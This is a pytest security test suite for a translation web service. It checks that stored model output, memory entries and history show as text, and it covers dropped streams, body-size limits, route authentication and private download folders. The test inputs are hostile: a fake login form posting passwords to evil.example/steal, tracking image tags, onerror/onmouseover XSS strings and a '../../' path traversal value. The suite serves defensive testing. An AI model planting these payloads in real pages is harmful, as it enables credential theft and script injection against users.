"""Attacks on the web doors, replayed against the real server (uvicorn on 127.0.0.1, a free
port) and the page in headless Chromium: stored markup, a client that drops an NDJSON
stream, bodies and auth on every route, private downloads. The models are
scripted or tiny, so each attack runs in seconds."""

from __future__ import annotations

import http.server
import json
import re
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gradio as gr
import pytest

from service.app.desk import open_entry
from service.app.gate import Pipelines
from service.app.outputs import DownloadStore
from service.app.render import review_rows
from service.app.review import sentence_rows
from service.app.server import Running, create_app, serve_in_thread
from service.config import Settings
from service.pipeline import Pipeline, StreamEvent
from tests.browser import CHROMIUM, TIMEOUT_MS, forget_done, open_page
from tests.fakes import ANSWERS, ARTICLE, FakeEngine, rendered

pytestmark = pytest.mark.filterwarnings("ignore:.*:Warning:gradio.queueing")

COST = "Kosztował 200 mln zł."
needs_chromium = pytest.mark.skipif(not CHROMIUM.exists(), reason="needs /usr/bin/chromium")


# --------------------------------------------------------------------------------------
# 1. Stored markup: model output, memory entries and history show as text


class Tracker:
    """A local HTTP server that counts requests: a remote image or link the page loads."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def payload(self, where: str) -> str:
        return (
            'Log in again <form action="https://evil.example/steal"><input name="password">'
            f"<button>Log in</button></form> [here](https://evil.example/x) "
            f"![x]({self.url}/{where}.png) <img src={self.url}/{where}-tag.png>"
        )


class Warned:
    """A scripted pipeline whose results carry one more (hostile) warning."""

    def __init__(self, pipeline: Pipeline, warning: str):
        self.pipeline, self.warning = pipeline, warning

    def __getattr__(self, name: str) -> Any:
        return getattr(self.pipeline, name)

    def stream(self, text: str, **kw: Any) -> Iterator[StreamEvent]:
        for event in self.pipeline.stream(text, **kw):
            if event.kind == "done" and event.result is not None:
                event.result.warnings.append(self.warning)
            yield event


@pytest.fixture(scope="module")
def tracker() -> Iterator[Tracker]:
    tracker = Tracker()
    yield tracker
    tracker.server.shutdown()


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory, tracker: Tracker) -> Iterator[Running]:
    """The page over a scripted model whose summary repeats the English it is given
    (so a remembered correction reaches the summary), with the memory on."""
    tmp = tmp_path_factory.mktemp("stored")
    engines = {
        "translation": FakeEngine(lambda text, guarded: ANSWERS.get(text, f"EN {text}")),
        "summary": FakeEngine(lambda text, guarded: text, max_input_tokens=500),
    }
    settings = Settings(models_dir=tmp, memory_path=tmp / "memory.sqlite3", builtin_glossary=False)
    pipeline = Pipeline(settings)
    pipeline.engine = lambda task: engines[task]  # type: ignore[method-assign]
    wrapped = Warned(pipeline, tracker.payload("warning"))
    running = serve_in_thread(create_app(settings, pipelines=Pipelines(lambda p: wrapped)))  # type: ignore[arg-type,return-value]
    yield running
    running.stop()


MARKUP = "form, input[name=password], a[href*='evil.example'], img[src*='127.0.0.1']"


def _translate(page: Any) -> None:
    from playwright.sync_api import expect

    forget_done(page)
    page.locator("#pl2en-translate").click()
    expect(page.locator("#pl2en-english [data-state=done]")).to_be_visible(timeout=TIMEOUT_MS)
    expect(page.locator("#pl2en-review .pl2en-row")).to_have_count(len(ANSWERS))


@needs_chromium
@pytest.mark.browser
def test_a_stored_correction_shows_as_text_in_another_session(
    browser: Any, stored: Running, tracker: Tracker
) -> None:
    from playwright.sync_api import expect

    attack = tracker.payload("summary")
    first = open_page(browser, stored.url)
    try:
        first.get_by_label("Polish article").fill(ARTICLE)
        _translate(first)
        row = first.locator("#pl2en-review .pl2en-row").filter(has_text=COST)
        row.get_by_role("button", name="Correct").click()
        first.locator("#pl2en-correction-text textarea").fill(attack)
        first.locator("#pl2en-save").click()
        expect(first.locator("#pl2en-notice")).to_contain_text("Saved")
    finally:
        first.context.close()

    page = open_page(browser, stored.url)  # someone else, later
    try:
        page.get_by_label("Polish article").fill(ARTICLE)
        # An error pop-up quoting the input (a glossary line) shows it as text too.
        term = f"<img src={tracker.url}/error.png>"
        page.get_by_text("Glossary for this article (optional)").click()
        glossary = page.locator("#pl2en-glossary textarea")
        glossary.fill(f"{term}\tX\n{term}\tY\n")
        page.locator("#pl2en-translate").click()
        toast = page.get_by_test_id("toast-body")
        expect(toast).to_contain_text("duplicate of line 1")
        expect(toast).to_contain_text(term)
        assert toast.locator("img").count() == 0
        glossary.fill("")
        for bullets in (False, True):
            page.get_by_label("Summary as bullets").set_checked(bullets)
            _translate(page)
            summary = page.locator("#pl2en-summary")
            expect(summary).to_contain_text("Log in again <form")  # the memory's entry, as text
            expect(page.locator("#pl2en-warnings")).to_contain_text("[here](https://evil")
            expect(page.locator("#pl2en-review")).to_contain_text("<input name=")
            for pane in ("#pl2en-summary", "#pl2en-warnings", "#pl2en-review", "#pl2en-english"):
                assert page.locator(pane).locator(MARKUP).count() == 0, pane
        with page.expect_download() as info:
            page.locator("#pl2en-dl-md").click()
        markdown = Path(info.value.path()).read_text(encoding="utf-8")
        assert "Log in again" in markdown
        assert not re.search(r"<(form|input|img|a|button)\b", rendered(markdown))
        page.wait_for_timeout(500)
    finally:
        page.context.close()
    assert tracker.hits == []


def _history_entry(segment: dict[str, Any]) -> dict[str, Any]:
    return {
        "v": 1,
        "id": "abc",
        "title": "t",
        "when": "2025-03-14 10:00 UTC",
        "date": None,
        "text": "Zdanie.",
        "preset": "quality",
        "summary_length": "short",
        "glossary": "",
        "edited": [],
        "summary_stale": False,
        "result": {
            "translation": "Sentence.",
            "summary": "",
            "segments": [segment],
            "date": None,
            "warnings": [],
            "stats": {},
            "models": {},
            "source": "Zdanie.",
        },
    }


GOOD = {
    "paragraph": 0,
    "source": "Zdanie.",
    "translation": "Sentence.",
    "sentence": 0,
    "start": 0,
    "end": 7,
    "checks": [],
    "origin": "memory",
}


@pytest.mark.parametrize(
    "change",
    [
        {"sentence": '0"><img src=x onerror=alert(1)>'},
        {"origin": "robot"},
        {"paragraph": "0"},
        {"end": 10_000},
        {"checks": [{"kind": "fact", "message": ["not", "text"], "fixed": False}]},
        {"checks": "none"},
    ],
)
def test_a_tampered_history_entry_is_refused_field_by_field(
    change: dict[str, Any], tmp_path: Path
) -> None:
    store = DownloadStore(tmp_path / "downloads")
    shown = open_entry([_history_entry(GOOD)], "abc", False, store)  # the untampered entry
    assert 'data-s="0"' in shown["review"]
    with pytest.raises(gr.Error, match="no longer in this browser"):
        open_entry([_history_entry({**GOOD, **change})], "abc", False, store)


def test_a_tampered_date_names_no_file_elsewhere(tmp_path: Path) -> None:
    from service.app.outputs import write_downloads
    from service.pipeline import ArticleResult

    entry = _history_entry(GOOD)
    entry["result"]["date"] = "../../escaped"
    with pytest.raises(gr.Error, match="no longer in this browser"):
        open_entry([entry], "abc", False, DownloadStore(tmp_path / "downloads"))
    folder = tmp_path / "a" / "b"
    folder.mkdir(parents=True)
    paths = write_downloads(ArticleResult("x", "", [], "../../escaped"), "", folder)
    assert {p.parent for p in paths.values()} == {folder}
    assert not list(tmp_path.glob("*escaped*"))


def test_attribute_values_are_escaped() -> None:
    from service.pipeline import Segment

    evil = '1" onmouseover="alert(1)'
    segment = Segment(0, "Zdanie.", "Sentence.", evil, 0, 7, (), "robot")  # type: ignore[arg-type]
    html = review_rows(sentence_rows([segment]))
    assert 'data-s="1&quot; onmouseover=&quot;alert(1)"' in html
    assert 'data-edit="1&quot; onmouseover=' in html
    assert 'onmouseover="' not in html and "unknown origin" in html


# --------------------------------------------------------------------------------------
# 2. A client that drops an NDJSON stream frees its queue slot and stops its model work

LONG = "\n\n".join(f"Radni dyskutowali o budżecie numer {i} przez całą noc." for i in range(300))
SHORT = "Nowy most w Toruniu.\n\nMiasto otworzyło nowy most."


@pytest.fixture
def queue_of_two(
    tiny_marian: str, tiny_bart: str, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Running]:
    from tests.fakes import tiny_settings

    monkeypatch.setattr("service.pipeline.FIRST_PARAGRAPH_S", 0.0)  # the first line comes early
    settings = tiny_settings(tiny_marian, tiny_bart).with_(max_chars=100_000, memory_path=None)
    running = serve_in_thread(create_app(settings, queue_size=2, rest_wait_s=30))
    yield running
    running.stop()


def test_a_dropped_stream_frees_its_slot_within_seconds(queue_of_two: Running) -> None:
    import time

    import httpx

    url = f"{queue_of_two.url}/api/translate"
    for _ in range(2):  # the whole queue
        with httpx.stream("POST", url, json={"text": LONG, "stream": True}, timeout=60) as r:
            lines = r.iter_lines()
            assert [json.loads(next(lines))["kind"] for _ in range(2)] == ["start", "paragraph"]
    dropped = time.monotonic()
    while True:  # a request sent within 5 s of the drop is served
        sent = time.monotonic() - dropped
        answer = httpx.post(url, json={"text": SHORT, "summary": False}, timeout=30)
        if answer.status_code != 503 or sent > 5:
            break
        time.sleep(0.2)
    assert answer.status_code == 200 and sent <= 5, (answer.status_code, sent)
    engine = queue_of_two.server.config.app.state.pipelines.get().translator.engine
    calls = engine.stats.calls
    time.sleep(2)
    assert engine.stats.calls == calls  # nothing computes for the clients that left


# --------------------------------------------------------------------------------------
# 8. One body limit for every route; with PL2EN_AUTH, every route but health behind it

USER = ("editor", "s3cret")


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    from tests.fakes import scripted_pipeline

    tmp = tmp_path_factory.mktemp("guarded")
    pipeline = scripted_pipeline(tmp, memory=False)
    settings = Settings(models_dir=tmp, auth=USER, max_chars=10_000)
    running = serve_in_thread(create_app(settings, pipelines=Pipelines(lambda p: pipeline)))
    yield running
    running.stop()


def send_body(running: Running, path: str, total: int, declared: bool = False) -> tuple[int, int]:
    """POST `total` bytes of JSON to `path` as the client can (chunked, or all after a
    Content-Length), stopping when the server answers; (status, bytes sent)."""
    import base64
    import select
    import socket

    host, port = running.url.removeprefix("http://").split(":")
    length = f"Content-Length: {total}" if declared else "Transfer-Encoding: chunked"
    credentials = base64.b64encode(":".join(USER).encode()).decode()
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
        f"Authorization: Basic {credentials}\r\n{length}\r\n\r\n"
    )
    piece = b'{"data": ["' + b"a" * (1 << 16)
    sent = 0
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(head.encode())
        try:
            while sent < total and not select.select([sock], [], [], 0)[0]:
                sock.sendall(piece if declared else b"%x\r\n%s\r\n" % (len(piece), piece))
                sent += len(piece)
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = sock.recv(4096)
    return int(answer.split()[1]), sent


@pytest.mark.parametrize("declared", [False, True])
@pytest.mark.parametrize(
    "path", ["/gradio_api/call/translate_and_summarize", "/gradio_api/queue/join"]
)
def test_a_huge_body_to_a_page_route_is_refused_unread(
    guarded: Running, path: str, declared: bool
) -> None:
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
    status, sent = send_body(guarded, path, 60_000_000, declared)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert status == 413
    assert sent < 20_000_000, sent  # the server stopped reading near its limit
    assert grown_mb < 40, grown_mb


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/api/docs"),
        ("GET", "/api/openapi.json"),
        ("POST", "/gradio_api/cancel"),
        ("POST", "/gradio_api/reset"),
        ("POST", "/reset"),
        ("GET", "/gradio_api/heartbeat/abc"),
        ("GET", "/gradio_api/startup-events"),
        ("POST", "/api/translate"),
    ],
)
def test_every_route_but_health_needs_credentials(guarded: Running, method: str, path: str) -> None:
    import httpx

    anonymous = httpx.request(method, guarded.url + path, json={}, timeout=10)
    assert anonymous.status_code == 401, anonymous.text
    assert anonymous.headers.get("www-authenticate", "Basic").startswith("Basic")
    with httpx.stream(method, guarded.url + path, json={}, auth=USER, timeout=10) as signed:
        assert signed.status_code != 401  # (the heartbeat is an endless event stream)
    assert httpx.get(f"{guarded.url}/api/health", timeout=10).status_code == 200


@needs_chromium
@pytest.mark.browser
def test_the_page_logs_in_and_works_behind_auth(browser: Any, guarded: Running) -> None:
    from playwright.sync_api import expect

    context = browser.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    page = context.new_page()
    try:
        page.goto(guarded.url)
        page.get_by_label("username").fill(USER[0])
        page.get_by_label("password").fill(USER[1])
        page.get_by_role("button", name="Login").click()
        page.get_by_label("Polish article").fill(ARTICLE)
        _translate(page)
        expect(page.locator("#pl2en-summary")).not_to_be_empty()
    finally:
        context.close()


# --------------------------------------------------------------------------------------
# 9. Downloads in private folders, pruned while running and removed at exit


def test_downloads_are_private_pruned_and_removed(tmp_path: Path) -> None:
    import os
    import stat
    import subprocess
    import sys
    import time

    from gradio_client import Client

    from service.app.outputs import private_root
    from service.app.ui import API_NAME
    from tests.fakes import scripted_pipeline

    pipeline = scripted_pipeline(tmp_path, memory=False)
    app = create_app(Settings(models_dir=tmp_path), pipelines=Pipelines(lambda p: pipeline))
    running = serve_in_thread(app)
    try:
        client = Client(running.url, verbose=False, download_files=False)
        out = client.predict(ARTICLE, "quality", "short", False, api_name=f"/{API_NAME}")
        client.close()
    finally:
        running.stop()
    root = private_root()
    assert stat.S_IMODE(root.stat().st_mode) == 0o700
    for served in out[5:]:  # the .txt, .md and .json as Gradio serves them
        path = Path(served["path"])
        assert path.is_relative_to(root), path  # not in a shared /tmp/gradio
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert app.state.downloads.root.is_relative_to(root)
    assert not app.state.downloads.root.exists()  # removed when the server stopped

    cache = root / "gradio"
    old = cache / "old-request"
    old.mkdir(parents=True, exist_ok=True)
    os.utime(old, (time.time() - 7200, time.time() - 7200))
    DownloadStore(tmp_path / "store", also_prune=(cache,)).new_dir()
    assert not old.exists()  # Gradio's copies are pruned too, by age

    code = "from service.app.outputs import private_root; print(private_root())"
    child = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    made = Path(child.stdout.strip())
    assert made.is_relative_to(Path(tempfile.gettempdir())) and not made.exists()
